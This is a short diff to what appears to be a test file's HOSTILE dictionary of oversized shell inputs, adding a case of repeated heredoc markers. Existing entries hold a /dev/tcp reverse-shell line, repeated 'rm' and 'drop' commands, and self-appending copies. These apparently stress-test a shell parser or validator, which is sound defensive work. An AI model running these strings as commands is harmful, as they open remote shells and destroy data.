@@ -151,7 +151,7 @@ HOSTILE = {
     "tees": "a | tee b | " * 2700 + "c", "doubling": "x=$x$x\n" * 4500, "copies": "cat a >> a\n" * 2900,
     "nested-loops": "for i in a b; do " * 1800 + "rm x; " + "done; " * 1800,
     "descriptors": "exec 3<>/dev/tcp/a/1; sh <&3 >&3\n" * 900, "prompts": "python3\n" * 4000,
-    "stars": "cat <<E | psql\n" + "drop " * 6000 + "\nE",
+    "documents": "<<E " * 8000, "stars": "cat <<E | psql\n" + "drop " * 6000 + "\nE",
 }
 
 
